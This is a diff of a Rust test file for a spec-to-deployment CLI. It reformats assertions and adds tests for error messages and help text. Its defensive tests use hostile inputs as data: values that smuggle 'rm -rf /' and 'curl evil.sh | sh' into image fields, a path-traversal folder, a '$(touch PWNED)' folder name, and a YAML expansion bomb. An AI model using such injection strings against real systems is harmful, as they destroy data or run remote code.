@@ -77,7 +77,10 @@ fn text_for_a_feature_without_plan_input_is_saved() {
         .args(["plan", "001", "Backend: FastAPI, Python 3.13"])
         .run();
     run.assert_stderr_contains("saved specs/001-todo-list/plan-input.md");
-    assert!(ws.read("specs/001-todo-list/plan-input.md").contains("Backend: FastAPI"));
+    assert!(
+        ws.read("specs/001-todo-list/plan-input.md")
+            .contains("Backend: FastAPI")
+    );
 }
 
 // 2. Secrets.
@@ -193,8 +196,14 @@ fn placeholders_and_secret_names_are_not_secrets() {
 fn hostile_set_values_are_errors_at_their_origin() {
     let ws = web_api();
     for (set, needle) in [
-        ("components.backend.image=evil;rm -rf /", "image repository `evil;rm -rf /`"),
-        ("components.backend.tag=1.0\nRUN curl evil.sh | sh", "image tag `1.0\\nRUN curl evil.sh | sh`"),
+        (
+            "components.backend.image=evil;rm -rf /",
+            "image repository `evil;rm -rf /`",
+        ),
+        (
+            "components.backend.tag=1.0\nRUN curl evil.sh | sh",
+            "image tag `1.0\\nRUN curl evil.sh | sh`",
+        ),
         ("components.backend.sourceDir=../../etc", "source folder `../../etc`"),
         ("components.backend.host=a b.local", "Ingress host `a b.local`"),
         ("namespace=!!!", "namespace `!!!`"),
@@ -218,7 +227,12 @@ fn a_newline_in_a_yaml_tag_is_an_error_at_its_line() {
     );
     let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
     run.assert_code(1).assert_stderr_contains("error[SP420]: image tag");
-    let line = ws.read(WEB_INPUT).lines().position(|l| l.contains("tag: \"1.0")).unwrap() + 1;
+    let line = ws
+        .read(WEB_INPUT)
+        .lines()
+        .position(|l| l.contains("tag: \"1.0"))
+        .unwrap()
+        + 1;
     run.assert_stderr_contains(&format!("{WEB_INPUT}:{line}:"));
 }
 
@@ -243,9 +257,12 @@ fn human_component_names_are_normalized_with_a_note() {
                     let name = name.trim_matches('"');
                     assert!(
                         name.len() <= 253
-                            && name
-                                .bytes()
-                                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.' || b == b'_' || b.is_ascii_uppercase()),
+                            && name.bytes().all(|b| b.is_ascii_lowercase()
+                                || b.is_ascii_digit()
+                                || b == b'-'
+                                || b == b'.'
+                                || b == b'_'
+                                || b.is_ascii_uppercase()),
                         "{path}: {line}"
                     );
                 }
@@ -261,7 +278,10 @@ fn a_long_application_name_never_makes_a_release_name_helm_refuses() {
     let long = "a".repeat(30) + " " + &"b".repeat(32);
     let constitution = ws.read("constitution.md");
     let first = constitution.lines().next().unwrap().to_string();
-    ws.write("constitution.md", constitution.replacen(&first, &format!("# {long} Constitution"), 1));
+    ws.write(
+        "constitution.md",
+        constitution.replacen(&first, &format!("# {long} Constitution"), 1),
+    );
     let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
     run.assert_code(0);
     let charts: Vec<String> = read_tree(&ws.join("out/001-web-api/helm"))
@@ -269,7 +289,12 @@ fn a_long_application_name_never_makes_a_release_name_helm_refuses() {
         .filter_map(|p| p.strip_suffix("/Chart.yaml").map(str::to_string))
         .collect();
     assert_eq!(charts.len(), 1, "{charts:?}");
-    assert!(charts[0].len() <= 53, "release name {} has {} characters", charts[0], charts[0].len());
+    assert!(
+        charts[0].len() <= 53,
+        "release name {} has {} characters",
+        charts[0],
+        charts[0].len()
+    );
 
     // Given as the application's name, it is refused where it is written.
     let run = Test::new()
@@ -289,7 +314,10 @@ fn shell_commands_quote_a_hostile_feature_folder() {
     let out = ws.join("out").join(hostile);
     let quickstart = std::fs::read_to_string(out.join("quickstart.md")).unwrap();
     let contracts = std::fs::read_to_string(out.join("contracts/docker-images.yaml")).unwrap();
-    assert!(quickstart.contains("docker build -f 'out/001-x;$(touch PWNED)/docker/"), "{quickstart}");
+    assert!(
+        quickstart.contains("docker build -f 'out/001-x;$(touch PWNED)/docker/"),
+        "{quickstart}"
+    );
     assert!(contracts.contains("docker build -f '"), "{contracts}");
 
     // Every command line that names the folder runs harmlessly, with stub tools.
@@ -320,7 +348,10 @@ fn shell_commands_quote_a_hostile_feature_folder() {
         ran += 1;
     }
     assert!(ran >= 3, "only {ran} commands name the folder");
-    assert!(!ws.exists("PWNED"), "a generated command ran the folder name as a command");
+    assert!(
+        !ws.exists("PWNED"),
+        "a generated command ran the folder name as a command"
+    );
 }
 
 /// Every string in a JSON value.
@@ -363,7 +394,8 @@ fn nul_bytes_are_refused_with_a_diagnostic() {
     let spec = ws.read("specs/001-todo-list/spec.md");
     ws.write("specs/001-todo-list/spec.md", spec.replacen("\n", "\n\0\0\n", 3));
     let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
-    run.assert_code(1).assert_stderr_contains("error[SP111]: NUL byte at line 2");
+    run.assert_code(1)
+        .assert_stderr_contains("error[SP111]: NUL byte at line 2");
     assert!(!ws.exists("out"));
 }
 
@@ -405,7 +437,11 @@ fn a_workspace_without_features_fails_check_and_all() {
     let ws = Workspace::new();
     ws.write("specs/.keep", "");
     ws.write("constitution.md", "# X Constitution\n");
-    for args in [vec!["plan", "--all"], vec!["plan", "--all", "--check"], vec!["check", "--all"]] {
+    for args in [
+        vec!["plan", "--all"],
+        vec!["plan", "--all", "--check"],
+        vec!["check", "--all"],
+    ] {
         let run = Test::new().workspace(&ws).args(&args).run();
         run.assert_code(2).assert_stderr_contains("no feature folders");
     }
@@ -425,6 +461,90 @@ fn a_repeated_set_key_is_an_error() {
             "components.backend.port=8000",
         ])
         .run();
-    run.assert_code(1).assert_stderr_contains("`components.backend.port` is set twice");
+    run.assert_code(1)
+        .assert_stderr_contains("`components.backend.port` is set twice");
     assert!(!ws.exists("out"));
+}
+
+// 7. Messages users can act on.
+
+#[test]
+fn yaml_errors_speak_the_users_words_with_their_place() {
+    let bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]\n";
+    for (block, says) in [
+        (
+            "components:\n  backend:\n    port: 8000\n    port: 8001\n",
+            "the key `port` is written twice in the same map; keep one",
+        ),
+        (bomb, "too many values"),
+    ] {
+        let ws = web_api();
+        append(&ws, WEB_INPUT, &format!("```yaml\n{block}```\n"));
+        let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
+        run.assert_code(1)
+            .assert_stderr_contains(says)
+            .assert_stderr_contains(&format!("--> {WEB_INPUT}:"));
+        for internal in ["DuplicateKeyPolicy", "Options", "budget breached", "Nodes {"] {
+            assert!(!run.stderr.contains(internal), "{internal}:\n{}", run.stderr);
+        }
+    }
+}
+
+#[test]
+fn explain_documents_every_code_and_check_in_full() {
+    let list = Test::new().args(["explain"]).run();
+    list.assert_code(0);
+    let codes: Vec<&str> = list
+        .stdout
+        .lines()
+        .filter_map(|l| l.split_whitespace().next())
+        .filter(|w| {
+            (w.starts_with("SP") || w.starts_with('S'))
+                && w[1..].trim_start_matches('P').chars().all(|c| c.is_ascii_digit())
+        })
+        .collect();
+    assert!(codes.len() > 40, "{codes:?}");
+    for code in codes {
+        let run = Test::new().args(["explain", code]).run();
+        run.assert_code(0);
+        for part in ["\nWhy\n", "\nExample\n", "\nFix\n"] {
+            run.assert_stdout_contains(part);
+        }
+        assert!(
+            run.stdout.len() > 200,
+            "`sp explain {code}` is too short:\n{}",
+            run.stdout
+        );
+    }
+}
+
+#[test]
+fn help_names_what_sp_generates_and_every_flag_is_explained() {
+    let run = Test::new().args(["--help"]).run();
+    run.assert_code(0);
+    for word in [
+        "plan.md",
+        "Dockerfiles",
+        "Kubernetes manifests",
+        "Helm chart",
+        "contracts",
+    ] {
+        run.assert_stdout_contains(word);
+    }
+    for sub in ["plan", "check", "explain", "schema"] {
+        let run = Test::new().args([sub, "--help"]).run();
+        run.assert_code(0);
+        // clap prints a flag without help text as a bare line: `  --flag`.
+        let mut lines = run.stdout.lines().peekable();
+        while let Some(line) = lines.next() {
+            let t = line.trim_start();
+            if t.starts_with('-') && !t.contains("  ") {
+                let next = lines.peek().map(|l| l.trim()).unwrap_or("");
+                assert!(
+                    !next.is_empty() && !next.starts_with('-'),
+                    "`sp {sub} --help`: `{t}` has no help text"
+                );
+            }
+        }
+    }
 }
